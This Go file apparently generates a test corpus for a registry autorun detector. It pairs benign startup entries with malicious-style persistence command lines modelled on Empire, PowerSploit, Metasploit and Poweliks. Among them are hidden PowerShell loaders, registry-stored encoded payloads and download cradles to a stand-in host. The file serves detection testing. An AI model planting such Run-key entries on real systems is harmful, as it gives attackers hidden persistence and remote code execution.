package main

import (
	"encoding/binary"
	"strings"
)

// Hive roots and keys used by the corpus (canonical, osquery's spelling).
const (
	sid1  = "S-1-5-21-1111111111-2222222222-3333333333-1001"
	sid2  = "S-1-5-21-1111111111-2222222222-3333333333-1002"
	user1 = "alice"
	user2 = "bob"

	hklm = `HKEY_LOCAL_MACHINE\SOFTWARE`
	u1   = `HKEY_USERS\` + sid1 + `\Software`
	u2   = `HKEY_USERS\` + sid2 + `\Software`

	cvRel   = `\Microsoft\Windows\CurrentVersion`
	ntcvRel = `\Microsoft\Windows NT\CurrentVersion`

	mCV        = hklm + cvRel
	mRun       = mCV + `\Run`
	mRunOnce   = mCV + `\RunOnce`
	mRunOnceEx = mCV + `\RunOnceEx`
	mPolRun    = mCV + `\Policies\Explorer\Run`
	mApproved  = mCV + `\Explorer\StartupApproved\Run`
	mApproved3 = mCV + `\Explorer\StartupApproved\Run32`
	mWowRun    = hklm + `\WOW6432Node` + cvRel + `\Run`
	mWinlogon  = hklm + ntcvRel + `\Winlogon`
	mTSRun     = hklm + ntcvRel + `\Terminal Server\Install\Software\Microsoft\Windows\CurrentVersion\Run`
	mProfiles  = hklm + ntcvRel + `\ProfileList`

	u1CV       = u1 + cvRel
	u1Run      = u1CV + `\Run`
	u1RunOnce  = u1CV + `\RunOnce`
	u1Approved = u1CV + `\Explorer\StartupApproved\Run`
	u2CV       = u2 + cvRel
	u2Run      = u2CV + `\Run`
	u2RunOnce  = u2CV + `\RunOnce`
	u2Approved = u2CV + `\Explorer\StartupApproved\Run`

	psExe    = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	ps32Exe  = `C:\Windows\SysWOW64\WindowsPowerShell\v1.0\powershell.exe`
	verdictB = "benign"
	verdictS = "suspicious+"
	verdictM = "malicious"
)

// StartupApproved states (first byte of the 12-byte binary value).
const (
	approvedNone = iota
	approvedOn
	approvedOn6
	approvedOff
)

// approvedData builds a StartupApproved value: state byte, three zero
// bytes, then a FILETIME (zero for enabled entries, the time the user
// disabled it otherwise; fixed here).
func approvedData(state int) []byte {
	b := make([]byte, 12)
	switch state {
	case approvedOn:
		b[0] = 0x02
	case approvedOn6:
		b[0] = 0x06
	case approvedOff:
		b[0] = 0x03
		// 2024-03-12T08:00:00Z as a FILETIME.
		binary.LittleEndian.PutUint64(b[4:], uint64(1710230400+11644473600)*10000000)
	}
	return b
}

// entry is one autorun value of a corpus file and what the table must say
// about it.
type entry struct {
	key         string
	v           regValue
	loc         string
	family      string
	verdict     string
	kind        *string // nil: not checked
	exists      *int
	ppath       string
	enc         string
	preview     string
	inds        []string
	approved    int
	approvedKey string
	note        string
}

// corpusFile collects one .reg file and its expectations.
type corpusFile struct {
	name string
	doc  *regDoc
	exp  []expectation
}

func newCorpusFile(name string) *corpusFile { return &corpusFile{name: name, doc: newRegDoc()} }

// store writes a non-autorun value (a payload, ProfileList, flags).
func (c *corpusFile) store(key string, v regValue) { c.doc.set(key, v) }

// add writes an autorun value and records its expectation.
func (c *corpusFile) add(e entry) {
	c.doc.set(e.key, e.v)
	name := e.v.Name
	if name == "" {
		name = "(Default)"
	}
	x := expectation{
		File:              c.name,
		Path:              e.key + `\` + name,
		Family:            e.family,
		Verdict:           e.verdict,
		Type:              e.v.typeName(),
		PayloadKind:       e.kind,
		PayloadExists:     e.exists,
		PayloadPath:       e.ppath,
		PayloadEncoding:   e.enc,
		PreviewContains:   e.preview,
		IndicatorsInclude: e.inds,
		Enabled:           1,
		Location:          e.loc,
		Note:              e.note,
	}
	x.Scope, x.SID, x.Username = scopeOf(e.key)
	if e.approved != approvedNone {
		ak := e.approvedKey
		if ak == "" {
			ak = approvedKeyFor(e.key)
		}
		c.doc.set(ak, binVal(e.v.Name, approvedData(e.approved)))
		if e.approved == approvedOff {
			x.Enabled = 0
		}
	}
	c.exp = append(c.exp, x)
}

func approvedKeyFor(key string) string {
	switch {
	case key == mRun:
		return mApproved
	case key == mWowRun:
		return mApproved3
	case key == u1Run:
		return u1Approved
	case key == u2Run:
		return u2Approved
	}
	panic("fixturegen: no StartupApproved key for " + key)
}

func scopeOf(key string) (scope, sid, user string) {
	if strings.HasPrefix(key, `HKEY_USERS\`) {
		sid = strings.SplitN(key, `\`, 3)[1]
		switch sid {
		case sid1:
			user = user1
		case sid2:
			user = user2
		}
		return "user", sid, user
	}
	return "machine", "", ""
}

var (
	kindNone     = strp("")
	kindRegistry = strp("registry")
	kindADS      = strp("ads")
	kindEventlog = strp("eventlog")
	kindFile     = strp("file")
	kindInline   = strp("inline")
	exists0      = intp(0)
	exists1      = intp(1)
)

// benign shorthand: a value every machine has; no payload reference.
func benign(key string, v regValue, loc, family string) entry {
	return entry{key: key, v: v, loc: loc, family: "benign:" + family, verdict: verdictB, kind: kindNone}
}

// profileList maps the corpus SIDs to user names, as a SOFTWARE hive does.
func profileList(c *corpusFile) {
	for _, p := range []struct{ sid, user string }{{sid1, user1}, {sid2, user2}} {
		k := mProfiles + `\` + p.sid
		c.store(k, expandSZ("ProfileImagePath", `C:\Users\`+p.user))
		c.store(k, dword("Flags", 0))
		c.store(k, dword("State", 0))
	}
}

// buildCorpus returns corpus.reg and the expectations of every autorun
// value in it.
func buildCorpus() *corpusFile {
	c := newCorpusFile("corpus.reg")
	profileList(c)

	// ---------------------------------------------------------------- machine, benign
	c.add(withApproved(benign(mRun, expandSZ("SecurityHealth", `%windir%\system32\SecurityHealthSystray.exe`), "run", "security_health"), approvedOn6))
	c.add(benign(mRun, expandSZ("WindowsDefender", `"%ProgramFiles%\Windows Defender\MSASCuiL.exe"`), "run", "windows_defender"))
	c.add(withApproved(benign(mRun, sz("VMware User Process", `"C:\Program Files\VMware\VMware Tools\vmtoolsd.exe" -n vmusr`), "run", "vmware_tools"), approvedOn))
	c.add(benign(mRun, sz("VBoxTray", `C:\Windows\system32\VBoxTray.exe`), "run", "virtualbox_guest"))
	c.add(benign(mRun, sz("RTHDVCPL", `"C:\Program Files\Realtek\Audio\HDA\RtkNGUI64.exe" -s`), "run", "realtek_audio"))
	c.add(benign(mRun, sz("RtkAudUService", `"C:\Windows\System32\DriverStore\FileRepository\realtekservice.inf_amd64_4b1ef1cbbea2b5f1\RtkAudUService64.exe" -background`), "run", "realtek_audio"))
	c.add(benign(mRun, sz("IgfxTray", `C:\Windows\system32\igfxtray.exe`), "run", "intel_graphics"))
	c.add(benign(mRun, sz("HotKeysCmds", `C:\Windows\system32\hkcmd.exe`), "run", "intel_graphics"))
	pers := benign(mRun, sz("Persistence", `C:\Windows\system32\igfxpers.exe`), "run", "intel_graphics")
	pers.note = "Intel's display-profile helper is really named Persistence: the name alone must not score"
	c.add(pers)
	c.add(benign(mRun, expandSZ("SynTPEnh", `%ProgramFiles%\Synaptics\SynTP\SynTPEnh.exe`), "run", "synaptics"))
	logi := benign(mRun, sz("LogitechDownloadAssistant", `C:\Windows\system32\rundll32.exe C:\Windows\System32\LogiLDA.dll,LogiFetch`), "run", "logitech")
	logi.kind = nil
	c.add(logi)
	c.add(withApproved(benign(mRun, sz("iTunesHelper", `"C:\Program Files\iTunes\iTunesHelper.exe"`), "run", "itunes"), approvedOff))
	nv := benign(mRun, sz("ShadowPlay", `C:\Windows\system32\rundll32.exe C:\Windows\system32\nvspcap64.dll,ShadowPlayOnSystemStart`), "run", "nvidia")
	nv.kind = nil
	c.add(nv)

	c.add(withApproved(benign(mWowRun, sz("Adobe ARM", `"C:\Program Files (x86)\Common Files\Adobe\ARM\1.0\AdobeARM.exe"`), "run_wow64", "adobe_arm"), approvedOff))
	c.add(benign(mWowRun, sz("SunJavaUpdateSched", `"C:\Program Files (x86)\Common Files\Java\Java Update\jusched.exe"`), "run_wow64", "java_update"))
	c.add(benign(mWowRun, sz("Dropbox", `"C:\Program Files (x86)\Dropbox\Client\Dropbox.exe" /systemstartup`), "run_wow64", "dropbox"))
	c.add(benign(mWowRun, expandSZ("TeamsMachineInstaller", `%ProgramFiles%\Teams Installer\Teams.exe --checkInstall --source=default`), "run_wow64", "teams_machine_installer"))

	c.add(benign(mPolRun, sz("ContosoVPN", `"C:\Program Files\Contoso\VPN\vpnui.exe" /minimized`), "policies_run", "gpo_deployed_vpn"))

	// RunOnceEx: flags on the key, the commands one level below.
	c.store(mRunOnceEx, sz("Title", "Contoso Agent setup"))
	c.store(mRunOnceEx, dword("Flags", 0x20))
	roe := benign(mRunOnceEx+`\0001`, sz("Line1", `||"C:\Program Files\Contoso\Agent\agentsetup.exe" /finalize /quiet`), "run_once_ex", "contoso_agent_setup")
	roe.kind = nil
	roe.note = "RunOnceEx value syntax DllFileName|FunctionName|CommandLine; `||cmd` runs a plain command"
	c.add(roe)

	c.store(mWinlogon, dword("AutoRestartShell", 1))
	c.add(benign(mWinlogon, sz("Shell", `explorer.exe`), "winlogon_shell", "winlogon_default"))

	// ---------------------------------------------------------------- user 1001 (alice), benign
	la := `C:\Users\alice\AppData`
	c.add(withApproved(benign(u1Run, sz("OneDrive", `"`+la+`\Local\Microsoft\OneDrive\OneDrive.exe" /background`), "run", "onedrive"), approvedOn))
	c.add(benign(u1Run, sz("com.squirrel.Teams.Teams", `"`+la+`\Local\Microsoft\Teams\Update.exe" --processStart "Teams.exe" --process-start-args "--system-initiated"`), "run", "teams_classic"))
	c.add(benign(u1Run, sz("MicrosoftEdgeAutoLaunch_0A1B2C3D4E5F60718293A4B5C6D7E8F9", `"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --no-startup-window --win-session-start /prefetch:5`), "run", "edge_autolaunch"))
	c.add(benign(u1Run, sz("MicrosoftEdgeUpdate", `"`+la+`\Local\Microsoft\EdgeUpdate\MicrosoftEdgeUpdate.exe" /c`), "run", "edge_update"))
	c.add(withApproved(benign(u1Run, sz("Spotify", `"`+la+`\Roaming\Spotify\Spotify.exe" --autostart --minimized`), "run", "spotify"), approvedOff))
	c.add(withApproved(benign(u1Run, sz("Discord", `"`+la+`\Local\Discord\Update.exe" --processStart Discord.exe`), "run", "discord"), approvedOff))
	c.add(benign(u1Run, sz("Zoom", `"`+la+`\Roaming\Zoom\bin\Zoom.exe" --autostart`), "run", "zoom"))
	c.add(benign(u1Run, sz("com.squirrel.slack.slack", `"`+la+`\Local\slack\slack.exe" --process-start-args --startup`), "run", "slack"))
	c.add(benign(u1Run, sz("Steam", `"C:\Program Files (x86)\Steam\steam.exe" -silent`), "run", "steam"))
	c.add(benign(u1Run, sz("ctfmon", `C:\Windows\system32\ctfmon.exe`), "run", "ctfmon"))
	od1 := benign(u1RunOnce, sz("Delete Cached Update Binary", `C:\Windows\system32\cmd.exe /q /c del /q "`+la+`\Local\Microsoft\OneDrive\Update\OneDriveSetup.exe"`), "run_once", "onedrive_cleanup")
	od1.kind = nil
	c.add(od1)
	od2 := benign(u1RunOnce, sz("Delete Cached Standalone Update Binary", `C:\Windows\system32\cmd.exe /q /c del /q "`+la+`\Local\Microsoft\OneDrive\StandaloneUpdater\OneDriveSetup.exe"`), "run_once", "onedrive_cleanup")
	od2.kind = nil
	c.add(od2)

	// ---------------------------------------------------------------- user 1002 (bob), benign
	lb := `C:\Users\bob\AppData`
	c.add(benign(u2Run, sz("OneDrive", `"`+lb+`\Local\Microsoft\OneDrive\OneDrive.exe" /background`), "run", "onedrive"))
	c.add(benign(u2Run, sz("MSTeams", `ms-teams.exe msteams:system-initiated`), "run", "teams_new"))
	c.add(benign(u2Run, sz("GoogleChromeAutoLaunch_9F8E7D6C5B4A39281706F5E4D3C2B1A0", `"C:\Program Files\Google\Chrome\Application\chrome.exe" --no-startup-window --win-session-start /prefetch:5`), "run", "chrome_autolaunch"))
	c.add(benign(u2RunOnce, sz("OneDriveSetup", `C:\Windows\SysWOW64\OneDriveSetup.exe /thfirstsetup`), "run_once", "onedrive_setup"))

	// ---------------------------------------------------------------- malicious
	empireLoader := func(location string) string {
		return `"` + psExe + `" -c "$x=` + location + `;powershell -Win Hidden -enc $x"`
	}

	// Empire persistence/userland/registry, default options.
	c.store(u1CV, sz("Debug", encUTF16(empireStager("empire-user", "/admin/get.php"))))
	c.add(entry{key: u1Run, v: sz("Updater", empireLoader(`$((gp HKCU:Software\Microsoft\Windows\CurrentVersion Debug).Debug)`)),
		loc: "run", family: "empire_registry_user", verdict: verdictM, kind: kindRegistry, exists: exists1,
		ppath: u1CV + `\Debug`, enc: "base64/utf16le", preview: "runkeyhunt test fixture (empire-user)",
		inds: []string{"amsi_bypass", "encoded_command", "hidden_window", "registry_payload", "scriptblock_logging_bypass"}})

	// Empire persistence/elevated/registry.
	c.store(mCV, sz("Debug", encUTF16(empireStager("empire-elevated", "/news.php"))))
	c.add(entry{key: mRun, v: sz("Updater", empireLoader(`$((gp HKLM:Software\Microsoft\Windows\CurrentVersion Debug).Debug)`)),
		loc: "run", family: "empire_registry_elevated", verdict: verdictM, kind: kindRegistry, exists: exists1,
		ppath: mCV + `\Debug`, enc: "base64/utf16le", preview: "runkeyhunt test fixture (empire-elevated)",
		inds: []string{"amsi_bypass", "registry_payload"}})

	// Empire with ADSPath: the payload is in an alternate data stream.
	c.add(entry{key: u2Run, v: sz("Updater", empireLoader(`$(cmd /c ''more < C:\Users\Public\desktop.ini:update'')`)),
		loc: "run", family: "empire_ads", verdict: verdictM, kind: kindADS, exists: exists0,
		ppath: `C:\Users\Public\desktop.ini:update`, inds: []string{"ads_payload", "encoded_command", "hidden_window"}})

	// Empire with EventLogID.
	c.add(entry{key: u2Run, v: sz("WinUpdate", empireLoader(`$([Text.Encoding]::ASCII.GetString(@((Get-Eventlog -LogName Application | ?{$_.eventid -eq 4242}))[0].data))`)),
		loc: "run", family: "empire_eventlog", verdict: verdictM, kind: kindEventlog, exists: exists0,
		ppath: `Application:EventID=4242`, inds: []string{"encoded_command", "eventlog_payload", "hidden_window"}})

	// PowerSploit Add-Persistence (UNICODE base64 in another value).
	c.store(u1CV+`\Explorer`, sz("Updater2", encUTF16(powerSploitScript("powersploit-user"))))
	c.add(entry{key: u1Run, v: sz("Updater2", psExe+` -NonInteractive -WindowStyle Hidden -c "IEX ([Text.Encoding]::UNICODE.GetString([Convert]::FromBase64String((gp HKCU:Software\Microsoft\Windows\CurrentVersion\Explorer Updater2).Updater2)))"`),
		loc: "run", family: "powersploit_add_persistence", verdict: verdictM, kind: kindRegistry, exists: exists1,
		ppath: u1CV + `\Explorer\Updater2`, enc: "base64/utf16le", preview: "runkeyhunt test fixture (powersploit-user)",
		inds: []string{"download_cradle", "hidden_window", "invoke_expression", "registry_payload"}})

	// Metasploit exploit/windows/local/registry_persistence (deflate).
	c.store(u1+`\Aw3KxQ`, sz("Pq7Lz", encDeflate(metasploitScript("metasploit-user"))))
	c.add(entry{key: u1Run, v: sz("kJqVwNtR", `%COMSPEC% /b /c start /b /min powershell -nop -w hidden -c "sleep 1; iex(New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String((Get-Item 'HKCU:Software\Aw3KxQ').GetValue('Pq7Lz')),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()"`),
		loc: "run", family: "metasploit_registry_persistence", verdict: verdictM, kind: kindRegistry, exists: exists1,
		ppath: u1 + `\Aw3KxQ\Pq7Lz`, enc: "base64/deflate/utf8", preview: "runkeyhunt test fixture (metasploit-user)",
		inds: []string{"compressed_payload", "hidden_window", "no_profile", "registry_payload"}})

	// Poweliks: rundll32 javascript: reads the Run key's own default value.
	poweliksJS := `/* runkeyhunt test fixture (poweliks): inert */ try{w=new ActiveXObject("WScript.Shell");w.Run("powershell.exe -nop -w hidden -enc ` +
		encUTF16(cradle("poweliks", "/poweliks.php")) + `",0,false)}catch(e){}`
	c.add(entry{key: u2Run, v: sz("", poweliksJS), loc: "run", family: "poweliks_payload", verdict: verdictS,
		inds: []string{"encoded_command", "lolbin_script"},
		note: "the Run key's own default value holds the JScript payload; osquery names it (Default)"})
	c.add(entry{key: u2Run, v: sz("wmsync", `rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();r=new%20ActiveXObject("WScript.Shell").RegRead("HKCU\\software\\microsoft\\windows\\currentversion\\run\\");eval(r)`),
		loc: "run", family: "poweliks_rundll32_js", verdict: verdictM, kind: kindRegistry, exists: exists1,
		ppath: u2Run + `\(Default)`, preview: "runkeyhunt test fixture (poweliks)",
		inds: []string{"invoke_expression", "lolbin_script", "registry_payload"},
		note: "RegRead of a key path ending in a backslash reads the key's default value"})

	// Registry:: provider path.
	c.store(u1+`\Microsoft\Office\16.0\Common\Sync`, sz("Blob", encUTF16(empireStager("registry-provider-path", "/login/process.php"))))
	c.add(entry{key: u1Run, v: sz("OfficeSync", `powershell.exe -w hidden -nop -c "iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String((Get-ItemProperty -Path 'Registry::HKEY_CURRENT_USER\Software\Microsoft\Office\16.0\Common\Sync' -Name Blob).Blob)))"`),
		loc: "run", family: "registry_provider_path", verdict: verdictM, kind: kindRegistry, exists: exists1,
		ppath: u1 + `\Microsoft\Office\16.0\Common\Sync\Blob`, enc: "base64/utf16le", preview: "runkeyhunt test fixture (registry-provider-path)",
		inds: []string{"amsi_bypass", "registry_payload"}})

	// Get-ItemProperty -Path ... -Name ... then .name
	c.store(u1+`\Classes\AppXk2v9\Shell`, sz("d", encUTF16(empireStager("get-itemproperty-path-name", "/admin/get.php"))))
	c.add(entry{key: u1Run, v: sz("Helper", `powershell -nop -w hidden -c "iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String((Get-ItemProperty -Path 'HKCU:\Software\Classes\AppXk2v9\Shell' -Name 'd').d)))"`),
		loc: "run", family: "get_itemproperty_path_name", verdict: verdictM, kind: kindRegistry, exists: exists1,
		ppath: u1 + `\Classes\AppXk2v9\Shell\d`, enc: "base64/utf16le", preview: "runkeyhunt test fixture (get-itemproperty-path-name)",
		inds: []string{"amsi_bypass", "registry_payload"}})

	// [Microsoft.Win32.Registry]::CurrentUser.OpenSubKey(...).GetValue(...)
	c.store(u2+`\Microsoft\Speech\Cache`, sz("Blob", encUTF16(powerSploitScript("dotnet-opensubkey"))))
	c.add(entry{key: u2Run, v: sz("SpeechHelper", `powershell.exe -NoP -W Hidden -C "IEX([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String([Microsoft.Win32.Registry]::CurrentUser.OpenSubKey('Software\Microsoft\Speech\Cache').GetValue('Blob'))))"`),
		loc: "run", family: "dotnet_registry_opensubkey", verdict: verdictM, kind: kindRegistry, exists: exists1,
		ppath: u2 + `\Microsoft\Speech\Cache\Blob`, enc: "base64/utf16le", preview: "runkeyhunt test fixture (dotnet-opensubkey)",
		inds: []string{"download_cradle", "registry_payload"}})

	// reg query in a for /f loop (RunOnce).
	c.store(u1CV+`\Themes`, sz("Cfg", encUTF16(empireStager("reg-query-for-loop", "/news.php"))))
	c.add(entry{key: u1RunOnce, v: sz("Setup", `cmd.exe /c for /f "tokens=2*" %a in ('reg query HKCU\Software\Microsoft\Windows\CurrentVersion\Themes /v Cfg') do powershell -w hidden -enc %b`),
		loc: "run_once", family: "reg_query_for_loop", verdict: verdictM, kind: kindRegistry, exists: exists1,
		ppath: u1CV + `\Themes\Cfg`, enc: "base64/utf16le", preview: "runkeyhunt test fixture (reg-query-for-loop)",
		inds: []string{"amsi_bypass", "registry_payload"}})

	// mshta vbscript: with WScript.Shell RegRead.
	c.store(u2+`\Adobe\Updater`, sz("cfg", encUTF16(empireStager("mshta-vbscript", "/login/process.php"))))
	c.add(entry{key: u2Run, v: sz("AdobeUpd", `mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""powershell -w hidden -enc "" & CreateObject(""WScript.Shell"").RegRead(""HKCU\Software\Adobe\Updater\cfg""), 0:close")`),
		loc: "run", family: "mshta_vbscript_regread", verdict: verdictM, kind: kindRegistry, exists: exists1,
		ppath: u2 + `\Adobe\Updater\cfg`, enc: "base64/utf16le", preview: "runkeyhunt test fixture (mshta-vbscript)",
		inds: []string{"lolbin_script", "registry_payload"}})

	// Inline -enc with a download cradle inside (machine RunOnce).
	c.add(entry{key: mRunOnce, v: sz("Init", `powershell.exe -w hidden -enc `+encUTF16(cradle("inline-encodedcommand", "/s"))),
		loc: "run_once", family: "inline_encodedcommand", verdict: verdictM, kind: kindInline, exists: exists1,
		enc: "base64/utf16le", preview: "runkeyhunt test fixture (inline-encodedcommand)",
		inds: []string{"download_cradle", "encoded_command", "hidden_window", "invoke_expression"}})

	// Inline FromBase64String('...') literal (user RunOnce).
	c.add(entry{key: u2RunOnce, v: sz("cleanup", `powershell -nop -w hidden -c "IEX([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('`+encUTF16(cradle("inline-frombase64string", "/b"))+`')))"`),
		loc: "run_once", family: "inline_frombase64string", verdict: verdictM, kind: kindInline, exists: exists1,
		enc: "base64/utf16le", preview: "runkeyhunt test fixture (inline-frombase64string)",
		inds: []string{"download_cradle", "hidden_window", "invoke_expression"}})

	// Plain download cradle (machine Policies\Explorer\Run).
	c.add(entry{key: mPolRun, v: sz("Updater", `powershell -nop -c "IEX (New-Object Net.WebClient).DownloadString('http://c2.example.invalid/a')"`),
		loc: "policies_run", family: "download_cradle", verdict: verdictS,
		inds: []string{"download_cradle", "invoke_expression"}})

	// regsvr32 scriptlet (Squiblydoo).
	c.add(entry{key: u1Run, v: sz("msupd", `regsvr32 /s /n /u /i:http://c2.example.invalid/file.sct scrobj.dll`),
		loc: "run", family: "regsvr32_scriptlet", verdict: verdictS, inds: []string{"lolbin_script"}})

	// wscript running a JScript file that is not in the collection.
	c.add(entry{key: u1Run, v: sz("Sync", `wscript.exe //B //E:jscript C:\Users\Public\x.js`),
		loc: "run", family: "wscript_jscript_file", verdict: verdictS, kind: kindFile, exists: exists0,
		ppath: `C:\Users\Public\x.js`, inds: []string{"script_file_payload"},
		note: "//B hides the script host; the script lives in the world-writable C:\\Users\\Public"})

	// powershell -File from AppData.
	c.add(entry{key: u2Run, v: sz("upd", `powershell.exe -w hidden -nop -ep bypass -File C:\Users\bob\AppData\Roaming\upd.ps1`),
		loc: "run", family: "powershell_file_bypass", verdict: verdictS, kind: kindFile, exists: exists0,
		ppath: `C:\Users\bob\AppData\Roaming\upd.ps1`, inds: []string{"exec_policy_bypass", "hidden_window", "script_file_payload"}})

	// gzip payload, 32-bit PowerShell, HKLM WOW6432Node Run.
	c.store(hklm+`\WOW6432Node\Microsoft\Cryptography\Providers`, sz("Cache", encGzip(empireStager("gzip-wow64", "/news.php"))))
	c.add(entry{key: mWowRun, v: sz("Updater", ps32Exe+` -nop -w hidden -c "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String((gp HKLM:\SOFTWARE\WOW6432Node\Microsoft\Cryptography\Providers Cache).Cache));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()"`),
		loc: "run_wow64", family: "gzip_registry_payload", verdict: verdictM, kind: kindRegistry, exists: exists1,
		ppath: hklm + `\WOW6432Node\Microsoft\Cryptography\Providers\Cache`, enc: "base64/gzip/utf8", preview: "runkeyhunt test fixture (gzip-wow64)",
		inds: []string{"amsi_bypass", "compressed_payload", "registry_payload"}})

	// Winlogon Userinit with an extra program.
	c.add(entry{key: mWinlogon, v: sz("Userinit", `C:\Windows\system32\userinit.exe,C:\Users\Public\u.exe`),
		loc: "winlogon_userinit", family: "winlogon_userinit", verdict: verdictS, inds: []string{"winlogon_modified"}})

	// Terminal Server install-mode Run key, Get-ItemPropertyValue.
	c.store(mCV+`\Installer`, sz("TSCache", encUTF16(empireStager("terminal-server-run", "/admin/get.php"))))
	c.add(entry{key: mTSRun, v: sz("TSUpdate", `powershell -w hidden -c "iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String((Get-ItemPropertyValue -Path HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\Installer -Name TSCache))))"`),
		loc: "terminal_server_run", family: "terminal_server_run", verdict: verdictM, kind: kindRegistry, exists: exists1,
		ppath: mCV + `\Installer\TSCache`, enc: "base64/utf16le", preview: "runkeyhunt test fixture (terminal-server-run)",
		inds: []string{"amsi_bypass", "registry_payload"}})

	addDepthCorpus(c)
	addIndirectCorpus(c)
	addASEPCorpus(c)

	// Kovter: a value name starting with NUL. A .reg export cannot carry it
	// (names are quoted strings; regedit cannot even display such a value),
	// so it is an expectation for hive input only.
	c.exp = append(c.exp, expectation{
		Path:              u2Run + `\\0Kx7Rm`,
		Family:            "kovter_hidden_value_name",
		Verdict:           verdictS,
		IndicatorsInclude: []string{"hidden_value_name"},
		Enabled:           1,
		Location:          "run",
		Scope:             "user",
		SID:               sid2,
		Username:          user2,
		HiveOnly:          true,
		Note:              "value name is NUL + \"Kx7Rm\" (reported escaped as \\0Kx7Rm); not representable in .reg, so corpus.reg has no such value: build it into a hive (NTUSER.DAT) to test",
	})
	return c
}

func withApproved(e entry, state int) entry { e.approved = state; return e }

// buildWinlogonDefault is a second host's export, saved the way regedit
// saves (UTF-16LE with BOM): Windows' own Winlogon values.
func buildWinlogonDefault() *corpusFile {
	c := newCorpusFile("winlogon_default.reg")
	c.store(mWinlogon, dword("AutoRestartShell", 1))
	c.add(benign(mWinlogon, sz("Shell", `explorer.exe`), "winlogon_shell", "winlogon_default"))
	c.add(benign(mWinlogon, sz("Userinit", `C:\Windows\system32\userinit.exe,`), "winlogon_userinit", "winlogon_default"))
	return c
}
